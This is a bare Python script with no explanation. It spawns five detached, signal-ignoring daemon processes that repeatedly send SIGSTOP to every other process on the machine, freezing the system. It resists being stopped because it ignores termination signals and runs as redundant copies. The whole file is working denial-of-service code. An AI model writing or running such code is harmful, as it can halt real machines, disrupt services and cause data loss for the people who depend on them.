import os
import signal
import time

for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        while True:
            time.sleep(0.2)
            for name in os.listdir("/proc"):
                if name.isdigit() and int(name) not in (os.getpid(), os.getppid()):
                    try:
                        os.kill(int(name), signal.SIGSTOP)
                    except OSError:
                        pass
